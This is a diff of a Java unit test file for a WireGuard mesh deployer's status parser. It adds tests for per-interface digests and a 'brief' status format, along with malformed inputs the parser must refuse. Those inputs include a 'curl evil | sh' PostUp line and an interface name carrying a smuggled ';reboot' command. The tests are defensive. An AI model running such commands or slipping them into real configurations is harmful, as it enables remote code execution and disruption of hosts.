@@ -11,6 +11,7 @@ import dev.wgmesh.deployer.domain.HostObservation.ObservedInterface;
 import dev.wgmesh.deployer.domain.HostObservation.ObservedPeer;
 import dev.wgmesh.deployer.domain.HostObservation.State;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -109,6 +110,8 @@ class StatusParserTest {
             "peer\twg0\t" + KEY_B + "\tnone\tevil\tnone\t0\t0\t0\toff",
             "peer\twg0\t" + KEY_B + "\tnone\tnone\tnone\t0\t0\t0\t0",       // keepalive 0 is printed as off
             "peer\twg0\t" + KEY_A + "\tnone\tnone\tnone\t0\t0\t0\toff",     // twice (see below)
+            "digest\twg9\t" + SHA,                                         // no interface line before it
+            "digest\twg0\tnot-a-digest",
             "PostUp = curl evil | sh",
             "end\textra"})
     void aBadLineIsRefusedNamingItsNumberAndQuotingIt(String bad) {
@@ -135,6 +138,62 @@ class StatusParserTest {
 
         assertThatThrownBy(() -> StatusParser.parse(text)).satisfies(e ->
                 assertThat(e.getMessage()).doesNotContain("\r", "\u001b").contains("\\r", "\\u001b"));
+    }
+
+    @Test
+    void eachInterfacesDigestIsKeptWhenEveryInterfaceHasOne() {
+        String withDigests = STATUS.replace("file\twg-2\tmissing\n", "file\twg-2\tmissing\ndigest\twg-2\t" + "c".repeat(64) + "\n")
+                .replace("\t25\n", "\t25\ndigest\twg0\t" + SHA + "\n");
+
+        assertThat(StatusParser.parse(withDigests).digests()).isEqualTo(Map.of(InterfaceName.parse("wg0"), SHA,
+                InterfaceName.parse("wg-2"), "c".repeat(64)));
+        assertThat(StatusParser.parse(STATUS).digests()).as("a host without digests").isEmpty();
+        String oneOfTwo = STATUS.replace("\t25\n", "\t25\ndigest\twg0\t" + SHA + "\n");
+        assertThat(StatusParser.parse(oneOfTwo).digests()).as("a digest for only one of two interfaces").isEmpty();
+        String twice = withDigests.replace("end\n", "digest\twg0\t" + SHA + "\nend\n");
+        assertThatThrownBy(() -> StatusParser.parse(twice)).hasMessageContaining("a second digest line for wg0");
+    }
+
+    @Test
+    void aBriefStatusGivesEachInterfacesDigestAndStalePeers() {
+        String brief = "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\ninterface\twg-2\t" + "c".repeat(64) + "\t3\nend\n";
+
+        Map<InterfaceName, StatusParser.Brief> parsed = StatusParser.parseBrief(brief);
+
+        assertThat(parsed).isEqualTo(Map.of(InterfaceName.parse("wg0"), new StatusParser.Brief(SHA, 0),
+                InterfaceName.parse("wg-2"), new StatusParser.Brief("c".repeat(64), 3)));
+        assertThat(StatusParser.parseBrief("wgmesh-brief\t1\nend")).isEmpty();
+    }
+
+    @Test
+    void aBriefStatusSaysUnchangedOnlyForTheSameInterfacesDigestsAndNoStalePeer() {
+        InterfaceName wg0 = InterfaceName.parse("wg0");
+        InterfaceName wg1 = InterfaceName.parse("wg1");
+        Map<InterfaceName, String> digests = Map.of(wg0, SHA);
+
+        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 0)), digests)).isTrue();
+        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 1)), digests)).isFalse();
+        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief("c".repeat(64), 0)), digests)).isFalse();
+        assertThat(StatusParser.Brief.unchanged(Map.of(wg1, new StatusParser.Brief(SHA, 0)), digests)).isFalse();
+        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 0),
+                wg1, new StatusParser.Brief(SHA, 0)), digests)).as("an interface more").isFalse();
+        assertThat(StatusParser.Brief.unchanged(Map.of(), digests)).as("every interface gone").isFalse();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "wgmesh-status\t1\nend\n",                                        // a full status
+            "wgmesh-brief\t2\nend\n",
+            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\n",               // cut off
+            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\nend\n",              // a field short
+            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t-1\nend\n",
+            "wgmesh-brief\t1\ninterface\twg0\tABC\t0\nend\n",
+            "wgmesh-brief\t1\ninterface\twg0;reboot\t" + SHA + "\t0\nend\n",
+            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\ninterface\twg0\t" + SHA + "\t0\nend\n",
+            "wgmesh-brief\t1\npeer\twg0\t" + SHA + "\t0\nend\n",
+            "wgmesh-brief\t1\nend\nend\n"})
+    void aBadBriefStatusIsRefused(String bad) {
+        assertThatThrownBy(() -> StatusParser.parseBrief(bad)).isInstanceOf(StatusParser.StatusFormatException.class);
     }
 
     @Test
